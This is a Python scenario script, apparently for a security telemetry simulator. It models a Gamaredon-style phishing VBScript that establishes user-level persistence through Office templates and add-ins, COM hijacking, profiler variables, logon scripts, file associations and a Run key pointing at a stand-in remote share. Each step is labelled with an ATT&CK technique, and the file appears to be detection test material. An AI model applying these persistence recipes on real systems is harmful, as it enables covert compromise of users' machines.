"""A script that came by mail settles wherever a user without rights can: templates and add-ins of Office, COM, environment,
associations, profile of PowerShell. Resembles Gamaredon's scripts, which live on in a victim's own documents."""
from scenery import Desktop

SETTING = {"start": "2022-05-19T10:41:30", "user": "ВІДДІЛ-3\\oksana", "home": "C:\\Users\\oksana", "computer": "ВІДДІЛ-3",
           "os_version": (10, 0, 19044)}
MICROSOFT = {"company": "Microsoft Corporation"}
OFFICE = r"HKCU\Software\Microsoft\Office"
CLASSES = r"HKCU\Software\Classes"
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
EXTENSIONS = ["doc", "docx", "docm", "rtf", "odt", "xls", "xlsx", "xlsm", "csv", "ppt", "pptx", "pdf", "txt", "jpg", "png"]


def user_class(c, script, class_id, library):
    key = CLASSES + "\\CLSID\\" + class_id + r"\InprocServer32"
    c.key(script, key, new=True)
    c.set_value(script, key + r"\(Default)", "REG_SZ", library)
    c.set_value(script, key + r"\ThreadingModel", "REG_SZ", "Both")


def office(c, script):
    roaming = c.home + r"\AppData\Roaming\Microsoft"
    library = roaming + r"\AddIns\solver64.xll"
    with c.behaviour("has Excel load an XLL that it dropped", "high", "T1137.006", script, "solver64.xll"):
        c.drop(script, library, 148_480)
        key = OFFICE + r"\16.0\Excel\Options"
        c.key(script, key)
        c.set_value(script, key + r"\OPEN", "REG_SZ", '/R "%s"' % library)
    with c.behaviour("puts a workbook into Excel's start folder", "high", ("T1137", "T1137.001", "T1137.006"), script,
                     ("XLSTART", "personal.xlsb")):
        c.folder(script, roaming + r"\Excel\XLSTART")
        c.drop(script, roaming + r"\Excel\XLSTART\personal.xlsb", 22_528)
    with c.behaviour("lets all macros run and opens Word's object model to them", "medium", ("T1112", "T1685", "T1137"),
                     script,
                     ("VBAWarnings", "AccessVBOM")):
        for program in ("Word", "Excel"):
            key = OFFICE + r"\16.0\%s\Security" % program
            c.key(script, key, new=True)
            c.set_value(script, key + r"\VBAWarnings", "REG_DWORD", 1)
            c.set_value(script, key + r"\AccessVBOM", "REG_DWORD", 1)
    with c.behaviour("puts its own template in the place of Word's Normal.dotm", "high", "T1137.001", script, "Normal.dotm"):
        c.rename(script, roaming + r"\Templates\Normal.dotm", roaming + r"\Templates\~Normal.bak")
        c.drop(script, roaming + r"\Templates\Normal.dotm", 31_700)
    with c.behaviour("puts an add-in into Word's start folder", "high", ("T1137.006", "T1137"), script, "wdhelp.wll"):
        c.drop(script, roaming + r"\Word\STARTUP\wdhelp.wll", 96_256)
    with c.behaviour("sets the Office test key, by which every Office program loads a library", "high", "T1137.002", script,
                     ("Office test", "perfc.dll")):
        c.drop(script, c.home + r"\AppData\Local\Microsoft\perfc.dll", 70_144)
        c.key(script, r"HKCU\Software\Microsoft\Office test\Special\Perf", new=True)
        c.set_value(script, r"HKCU\Software\Microsoft\Office test\Special\Perf\(Default)", "REG_SZ",
                    c.home + r"\AppData\Local\Microsoft\perfc.dll")
    with c.behaviour("adds an Outlook add-in that is loaded at start", "medium", ("T1137.006", "T1137"), script,
                     ("Addins", "mlsync.dll")):
        c.drop(script, c.home + r"\AppData\Local\Microsoft\mlsync.dll", 88_064)
        user_class(c, script, "{5B0C6A2E-9F14-4C0D-8B57-20F3D1E7A914}", c.home + r"\AppData\Local\Microsoft\mlsync.dll")
        c.key(script, CLASSES + r"\MailSync.Connect\CLSID", new=True)
        c.set_value(script, CLASSES + r"\MailSync.Connect\CLSID\(Default)", "REG_SZ",
                    "{5B0C6A2E-9F14-4C0D-8B57-20F3D1E7A914}")
        key = OFFICE + r"\Outlook\Addins\MailSync.Connect"
        c.key(script, key, new=True)
        c.set_value(script, key + r"\FriendlyName", "REG_SZ", "Mail Sync")
        c.set_value(script, key + r"\LoadBehavior", "REG_DWORD", 3)
    with c.behaviour("sets a web page of its server as Outlook's home page of the inbox", "high", "T1137.004", script,
                     ("WebView", "poshta.example")):
        key = OFFICE + r"\16.0\Outlook\WebView\Inbox"
        c.key(script, key, new=True)
        c.set_value(script, key + r"\URL", "REG_SZ", "http://poshta.example/inbox.htm")


def environment(c, script, desktop):
    local = c.home + r"\AppData\Local\Microsoft"
    with c.behaviour("redirects a COM class to its own by TreatAs", "high", "T1546.015", script, ("TreatAs", "thumbx.dll")):
        c.drop(script, local + r"\thumbx.dll", 57_344)
        user_class(c, script, "{D1F6A3C8-0B5E-4E2A-93C6-6C7A1B2F8E40}", local + r"\thumbx.dll")
        key = CLASSES + r"\CLSID\{3A9428A7-31A4-45E9-9EFB-E055BF7BB3DB}\TreatAs"
        c.key(script, key, new=True)
        c.set_value(script, key + r"\(Default)", "REG_SZ", "{D1F6A3C8-0B5E-4E2A-93C6-6C7A1B2F8E40}")
    with c.behaviour("has every .NET program of the user load its library as profiler", "high", "T1574.012", script,
                     ("COR_PROFILER", "clrprf.dll")):
        c.drop(script, local + r"\clrprf.dll", 61_952)
        c.set_value(script, r"HKCU\Environment\COR_ENABLE_PROFILING", "REG_SZ", "1")
        c.set_value(script, r"HKCU\Environment\COR_PROFILER", "REG_SZ", "{CF0D821E-299B-5307-A3D8-B283C03916DD}")
        c.set_value(script, r"HKCU\Environment\COR_PROFILER_PATH", "REG_SZ", local + r"\clrprf.dll")
    with c.behaviour("sets a logon script of the user", "high", "T1037.001", script, ("UserInitMprLogonScript", "vhid.cmd")):
        c.drop(script, c.home + r"\Links\vhid.cmd", 210)
        c.set_value(script, r"HKCU\Environment\UserInitMprLogonScript", "REG_SZ", c.home + r"\Links\vhid.cmd")
    with c.behaviour("writes the user's profile of PowerShell", "high", "T1546.013", script, "profile.ps1"):
        folder = c.home + r"\Documents\WindowsPowerShell"
        c.folder(script, folder)
        c.drop(script, folder + r"\Microsoft.PowerShell_profile.ps1", 1450)
    desktop.murmur(4)
    system32 = c.system_root + "\\System32\\"
    line = "%swscript.exe //e:vbscript //b \"%s\\Links\\odz.dat\" \"%%1\"" % (system32, c.home)
    with c.behaviour("has text files opened by its own script", "high", "T1546.001", script, ("txtfile", "odz.dat")):
        c.drop(script, c.home + r"\Links\odz.dat", 5200)
        key = CLASSES + r"\txtfile\shell\open\command"
        c.key(script, key, new=True)
        c.set_value(script, key + r"\(Default)", "REG_SZ", line)
    with c.behaviour("takes over the associations of fifteen kinds of documents and pictures", "high", "T1546.001", script,
                     ("odzfile", "odz.dat", ".docx")):
        key = CLASSES + r"\odzfile\shell\open\command"
        c.key(script, key, new=True)
        c.set_value(script, key + r"\(Default)", "REG_SZ", line)
        for extension in EXTENSIONS:
            c.key(script, CLASSES + "\\." + extension, new=True)
            c.set_value(script, CLASSES + "\\.%s\\(Default)" % extension, "REG_SZ", "odzfile")
    run = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
    with c.behaviour("has a program on a foreign server started at logon", "high", "T1547.001", script,
                     ("203.0.113.90", "MapsSync")):
        tool = c.spawn(script, system32 + "reg.exe", r'"C:\Windows\System32\reg.exe" add %s /v MapsSync /t REG_SZ /d '
                       r'\\203.0.113.90\share\maps.exe /f' % run, directory=c.home + "\\Downloads\\", **MICROSOFT)
        c.key(tool, run)
        c.set_value(tool, run + r"\MapsSync", "REG_SZ", r"\\203.0.113.90\share\maps.exe")
        c.exit(tool)
    c.behaviours[-1].pids.add(tool.pid)


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    desktop.murmur(8)
    path = c.home + r"\Downloads\Наказ_112_від_18.05.vbs"
    script = c.spawn(desktop.explorer, system32 + "wscript.exe", '"%swscript.exe" "%s" ' % (system32, path),
                     directory=c.home + "\\Downloads\\", description="Microsoft ® Windows Based Script Host", **MICROSOFT)
    for name in ("vbscript", "amsi", "scrrun", "wshom.ocx"):
        c.load(script, system32 + name + ("" if "." in name else ".dll"))
    c.read(script, path, 41_300)
    desktop.resolve()
    c.host("203.0.113.90", "poshta.example")
    with c.behaviour("a script host fetches the next stages from the net", "medium", ("T1105", "T1071.001", "T1059.005"),
                     script,
                     ("203.0.113.90", "poshta.example")):
        c.exchange(script, ("203.0.113.90", 80), 49811, [240], [14_600] * 12)
    c.wait(6)
    office(c, script)
    c.wait(9)
    desktop.murmur(5)
    environment(c, script, desktop)
    c.exit(script)
    desktop.murmur(5)
    c.wait(95)
    # The user opens a letter; the macros of the template run in Word.
    word = c.spawn(desktop.explorer, WORD,
                   '"%s" /n "%s\\Documents\\лист.docx" /o ""' % (WORD, c.home),
                   directory=c.home + "\\Documents\\", description="Microsoft Word", **MICROSOFT)
    c.read(word, c.home + r"\AppData\Roaming\Microsoft\Templates\Normal.dotm", 31_700)
    c.load(word, r"C:\Program Files\Common Files\microsoft shared\VBA\VBA7.1\VBE7.DLL")
    c.load(word, c.home + r"\AppData\Local\Microsoft\perfc.dll")
    c.read(word, c.home + r"\Documents\лист.docx", 18_200)
    with c.behaviour("Word starts a script host on a file without a script's extension", "high",
                     ("T1204.002", "T1137.001", "T1059.005", "T1059"), word, ("wscript.exe", "odz.dat")):
        host = c.spawn(word, system32 + "wscript.exe", "wscript.exe //e:vbscript //b %s\\Links\\odz.dat" % c.home,
                       **MICROSOFT)
        c.load(host, system32 + "vbscript.dll")
        c.read(host, c.home + r"\Links\odz.dat", 5200)
        c.exchange(host, ("203.0.113.90", 80), 49840, [310], [900])
    c.behaviours[-1].pids.add(host.pid)
    desktop.murmur(6)
